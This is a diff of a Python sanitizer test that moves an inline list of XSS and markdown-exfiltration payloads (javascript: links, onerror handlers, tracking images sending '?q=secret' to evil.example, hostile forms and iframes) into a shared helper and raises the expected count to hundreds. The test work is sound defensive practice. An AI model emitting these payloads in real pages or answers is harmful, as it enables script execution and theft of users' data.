@@ -9,6 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from muniment.conversations.rendering import answer_html, excerpt
+from tests.exfiltration import payloads
 
 SOURCES = {1: "/turns/7/sources/1", 2: "/turns/7/sources/2", 3: ""}
 ALLOWED_TAGS = {
@@ -23,84 +24,11 @@ ALLOWED_ATTRIBUTES = {
 }
 
 PAYLOADS = [
-    # scripts in links
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\nscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](&#x6A;&#x61;vascript:alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://evil.example/1)",
-    '[x](https://evil.example "onmouseover=alert(1)")',
-    "[x](<javascript:alert(1)>)",
-    "[x](//evil.example/collect)",
-    "[x](\\\\evil.example\\share)",
-    # words carried out in an address
-    "![](https://evil.example/p.gif?q=secret)",
-    "![x](//evil.example/p.gif)",
-    "![x][ref]\n\n[ref]: https://evil.example/p.gif",
-    "[x][ref]\n\n[ref]: javascript:alert(1)",
-    "[ref]\n\n[ref]: https://evil.example",
-    "[1]: https://evil.example\n\nSee [1].",
-    "[1]\n\n[1]: javascript:alert(1) 'title'",
-    "<https://evil.example>",
-    "<javascript:alert(1)>",
-    "<mail@evil.example>",
-    "https://evil.example/?q=secret",
-    "www.evil.example",
-    "![a](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
-    "[![x](https://evil.example/i.png)](https://evil.example)",
-    "[[x](https://evil.example)](https://evil.example)",
-    "[1](https://evil.example)",
-    "[1, 2](javascript:alert(1))",
-    "![1](https://evil.example/p.gif)",
-    # raw HTML
-    "<script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/p.gif'>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<math href='javascript:alert(1)'>x</math>",
-    "<iframe src=https://evil.example></iframe>",
-    "<object data=https://evil.example></object>",
-    "<embed src=https://evil.example>",
-    "<form action=https://evil.example><input name=q><button>x</button></form>",
-    "<base href=https://evil.example>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>@import 'https://evil.example/x.css'</style>",
-    "<div style='background:url(https://evil.example)'>x</div>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<a href='https://evil.example' class=cite data-n=1>1</a>",
-    "<a class='cite' href='/turns/7/sources/1' onclick='alert(1)'>1</a>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml-stylesheet href='https://evil.example'?>",
+    *payloads("evil.example"),
     "<b><i></b></i><script",
-    # entities, escapes, nesting
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;",
-    "\\<script>alert(1)\\</script>",
-    "`<script>alert(1)</script>`",
-    "```html\n<script>alert(1)</script>\n```",
     '```"><img src=x onerror=alert(1)>\nx\n```',
-    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
-    "# <svg onload=alert(1)>",
     "> " * 200 + "<script>alert(1)</script>",
-    "- [x](javascript:alert(1))\n  1. ![](https://evil.example/p.gif)",
-    "[^1]\n\n[^1]: <script>alert(1)</script>",
-    "*[x]: <img src=x onerror=alert(1)>",
-    '[1"onmouseover="alert(1)]',
-    "[1]{onclick=alert(1)}",
-    "$$\\href{javascript:alert(1)}{x}$$",
-    "\u202e<script>\u2066alert(1)",
+    "[x](\\\\evil.example\\share)",
     "<scr\x00ipt>alert(1)</scr\x00ipt>",
     "\ud800<script>alert(1)</script>",
 ]
@@ -150,15 +78,21 @@ def test_nothing_runs_loads_or_leads_out(payload: str) -> None:
     require_harmless(answer_html(f"Before {payload} after [1].\n\n{payload}\n", SOURCES))
 
 
-def test_there_are_about_sixty_payloads_and_the_check_sees_them() -> None:
-    assert len(PAYLOADS) >= 60
+@pytest.mark.deep
+def test_nor_in_any_other_spelling() -> None:
+    for payload in payloads("evil.example", whole=True):
+        require_harmless(answer_html(f"Before {payload} after [1].\n\n{payload}\n", SOURCES))
+
+
+def test_there_are_hundreds_of_payloads_and_the_check_sees_them() -> None:
+    assert len(PAYLOADS) >= 300
     seen = 0
     for payload in PAYLOADS:
         try:
             require_harmless(payload)
         except (AssertionError, KeyError):
             seen += 1
-    assert seen >= 25, "raw HTML among the payloads must be refused by the check itself"
+    assert seen >= 100, "raw HTML among the payloads must be refused by the check itself"
 
 
 PIECES = st.sampled_from(
